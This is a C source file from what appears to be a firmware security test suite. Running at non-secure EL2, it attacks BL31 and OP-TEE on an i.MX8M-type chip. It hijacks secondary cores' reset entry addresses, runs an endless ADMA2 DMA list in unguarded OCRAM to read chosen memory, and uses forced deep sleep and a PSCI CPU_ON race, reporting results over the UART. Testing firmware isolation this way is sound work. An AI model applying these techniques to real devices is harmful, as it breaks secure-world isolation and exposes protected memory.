/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Whoever is root in Linux, without Linux in between: real BL31 and OP-TEE
 * start this at non-secure EL2. README.md tells what each attack does.
 */
typedef unsigned int u32;
typedef unsigned long u64;

enum {
	ATTACK_CORES = 1,
	ATTACK_SLEEP = 2,
	ATTACK_SLEEP_BY_HAND = 3,
	ATTACK_CPU_ON = 4
};
enum { WAY_SYSTEM_SUSPEND, WAY_BY_HAND, WAY_CPU_OFF, WAY_STANDBY, WAYS };

/* From the test: an attack, and for SLEEP the address that DMA reads */
extern volatile u64 selection[2];
extern volatile u64 stolen_level, aborts;
extern char stolen[];
int suspend(void);
int suspend_cpu(u64 state);
void mark(void) __attribute__((returns_twice));
u64 firmware(u64 function, u64 a, u64 b, u64 c);
void second_core(void);
void intrude(void);
void second(void);

#define REGISTER(address) (*(volatile u32 *)(u64)(address))
#define UART 0x30860000
#define SRC 0x30390000
#define GPC 0x303a0000
#define COUNTER 0x306a0000
#define COMPARE 0x306b0000
#define USDHC 0x30b50000
#define OCRAM 0x00904000ul

/* GPC */
#define LPCR_A53_BSC 0x000
#define LPCR_A53_AD 0x004
#define SLPCR 0x014
#define IMR_CORE0 0x030
#define CPU_PUP 0x0f0
#define CPU_PDN 0x0fc
#define LPCR_A53_BSC2 0x108
#define PGC_CORE(n) (0x800 + 0x40 * (n))
#define COUNTER_SPI 47

static void put(char c)
{
	while (REGISTER(UART + 0xb4) & 0x10)
		;
	REGISTER(UART + 0x40) = c;
}

/* The test looks at the board meanwhile, and types a character to go on */
static void wait_for_test(void)
{
	while (!(REGISTER(UART + 0x98) & 1))
		;
	(void)REGISTER(UART);
}

static void say(const char *text)
{
	while (*text)
		put(*text++);
}

/* Names hold no blanks; the test reads "SEEN <name> <hexadecimal>" */
static void seen(const char *name, u64 value)
{
	say("SEEN ");
	say(name);
	say(" ");
	for (int shift = 60; shift >= 0; shift -= 4)
		put("0123456789abcdef"[value >> shift & 15]);
	say("\r\n");
}

static void wait(u64 microseconds)
{
	u64 frequency, begin, now;

	__asm__ volatile("mrs %0, cntfrq_el0" : "=r"(frequency));
	__asm__ volatile("isb; mrs %0, cntpct_el0" : "=r"(begin));
	do
		__asm__ volatile("isb; mrs %0, cntpct_el0" : "=r"(now));
	while ((now - begin) * 1000000 / frequency < microseconds);
}

static void set_entry(int core, u64 address)
{
	REGISTER(SRC + 0x74 + 8 * core) = address >> 24 & 0xffff;
	REGISTER(SRC + 0x78 + 8 * core) = address >> 2 & 0x3fffff;
}

/* The ways to give a core power, with an entry of our own before each */
static void steal_cores(void)
{
	u64 level = 0;

	for (int core = 1; core < 4; core++) {
		set_entry(core, (u64)stolen);
		if (core == 1) {
			/* The core's reset, while it has power */
			REGISTER(SRC + 0x08) |= 1u << core;
		} else if (core == 2) {
			/* Power off and on, then the reset, as BL31 does it */
			REGISTER(GPC + PGC_CORE(core)) |= 1;
			REGISTER(GPC + CPU_PDN) = 1u << core;
			REGISTER(SRC + 0x08) |= 1u << core;
			REGISTER(GPC + CPU_PUP) = 1u << core;
		} else {
			/* The reset register's other half */
			REGISTER(SRC + 0x04) |= 1u << core;
			REGISTER(GPC + CPU_PUP) = 1u << core;
			REGISTER(SRC + 0x08) = 0xf;
		}
		/* A second of the guest's: the emulator's host may be busy */
		for (int turn = 0; turn < 50 && !stolen_level; turn++)
			wait(20000);
		level = level > stolen_level ? level : stolen_level;
	}
	seen("level-of-stolen-core", level);
	set_entry(0, (u64)stolen);
	seen("entry-of-core-0",
	     ((u64)REGISTER(SRC + 0x74) << 22 | REGISTER(SRC + 0x78)) << 2);
}

static void command(u32 number, u32 argument, u32 flags)
{
	REGISTER(USDHC + 0x08) = argument;
	REGISTER(USDHC + 0x0c) = (number << 8 | flags) << 16;
}

/* An endless ADMA2 list in OCRAM, which the TZASC does not guard */
static void start_dma(u64 source)
{
	volatile u64 *list = (volatile u64 *)OCRAM;
	u32 address;

	REGISTER(USDHC + 0x2c) = 7;
	command(0, 0, 0);
	command(8, 0x1aa, 2);
	command(55, 0, 2);
	command(41, 0x40ff8000, 2);
	command(2, 0, 1);
	command(3, 0, 2);
	address = REGISTER(USDHC + 0x10) & 0xffff0000;
	command(7, address, 3);
	list[0] = source << 32 | 0x00080021;      /* read 8 bytes */
	list[1] = list[2] = list[3] = 1;          /* nothing, slowly */
	list[4] = (u64)list << 32 | 0x31;         /* link */
	__asm__ volatile("dsb sy" ::: "memory");
	REGISTER(USDHC + 0x28) = 0x200;
	REGISTER(USDHC + 0x58) = (u32)(u64)list;
	REGISTER(USDHC + 0x48) = 0x21;
	REGISTER(USDHC + 0x04) = 1u << 16 | 8;
	command(25, 0, 0x22);
	wait(20000);
}

static void wake_by_counter(u32 ticks)
{
	u64 when = REGISTER(COUNTER + 0x08) |
		   (u64)REGISTER(COUNTER + 0x0c) << 32;

	for (int word = 0; word < 4; word++)
		REGISTER(GPC + IMR_CORE0 + 4 * word) = ~0u;
	REGISTER(GPC + IMR_CORE0 + 4 * (COUNTER_SPI / 32)) =
		~(1u << COUNTER_SPI % 32);
	when += ticks;
	REGISTER(COMPARE + 0x20) = (u32)when;
	REGISTER(COMPARE + 0x24) = when >> 32;
	REGISTER(COMPARE + 0x2c) = 1;
}

/* From now on the chip sleeps when the last core waits, PSCI or not */
static void arm_deep_sleep(void)
{
	REGISTER(GPC + LPCR_A53_BSC) |= 0xa;
	REGISTER(GPC + LPCR_A53_BSC2) |= 0xa;
	REGISTER(GPC + LPCR_A53_AD) |= 1u << 0 | 1u << 20 | 1u << 9;
	REGISTER(GPC + PGC_CORE(0)) |= 1;
	REGISTER(GPC + SLPCR) |= 1u << 31;
	__asm__ volatile("dsb sy");
}

static volatile u64 slept;

static void sleep_by_hand(void)
{
	slept = 0;
	mark();
	if (slept)
		return;
	slept = 1;
	arm_deep_sleep();
	__asm__ volatile("wfi");
	/* Not even asleep: the test misses the name in what was seen */
	slept = 2;
}

static void sleep_by_way(int way)
{
	wake_by_counter(400000);
	say("SLEEP\r\n");
	switch (way) {
	case WAY_SYSTEM_SUSPEND:
		seen("system-suspend", (u64)suspend());
		break;
	case WAY_BY_HAND:
		sleep_by_hand();
		if (slept == 1)
			seen("by-hand", 0);
		break;
	case WAY_CPU_OFF:
		/* To PSCI the cluster stays on */
		arm_deep_sleep();
		seen("cpu-off", (u64)suspend_cpu(0x10033));
		break;
	case WAY_STANDBY:
		/* To PSCI the core waits; its answer is lost with the power */
		arm_deep_sleep();
		suspend_cpu(0);
		seen("standby", 0);
		break;
	}
	REGISTER(COMPARE + 0x2c) = 0;
}

/* What lists read after the wake-up is of interest, too */
static void show_what_is_open(void)
{
	start_dma(selection[1]);
	wait(30000);
	say("WOKE\r\n");
	wait_for_test();
}

static volatile u64 second_is_there;

/*
 * The first core after deep sleep is one that PSCI has turned on, but that lost
 * its power before it got here. The counter gives power to that one only.
 */
static void sleep_while_a_core_is_turned_on(void)
{
	u64 answer;

	start_dma(selection[1]);
	wake_by_counter(400000);
	say("SLEEP\r\n");
	answer = firmware(0xc4000003, 1, (u64)second_core, 0);
	REGISTER(GPC + PGC_CORE(1)) |= 1;
	REGISTER(GPC + CPU_PDN) = 1u << 1;
	__asm__ volatile("dsb sy");
	seen("cpu-on", answer);
	seen("second-core-before-sleep", second_is_there);
	arm_deep_sleep();
	REGISTER(GPC + LPCR_A53_AD) = 1u << 0 | 1u << 20 | 1u << 11;
	__asm__ volatile("dsb sy; wfi");
	seen("not-asleep", 1);
}

void second(void)
{
	second_is_there = 1;
	REGISTER(COMPARE + 0x2c) = 0;
	show_what_is_open();
	say("END\r\n");
}

void intrude(void)
{
	if (selection[0] == ATTACK_CORES) {
		steal_cores();
	} else if (selection[0] == ATTACK_CPU_ON) {
		sleep_while_a_core_is_turned_on();
		return;
	} else {
		for (int way = 0; way < WAYS; way++) {
			if (selection[0] == ATTACK_SLEEP_BY_HAND && way != WAY_BY_HAND)
				continue;
			start_dma(selection[1]);
			sleep_by_way(way);
			show_what_is_open();
		}
	}
	say("END\r\n");
}
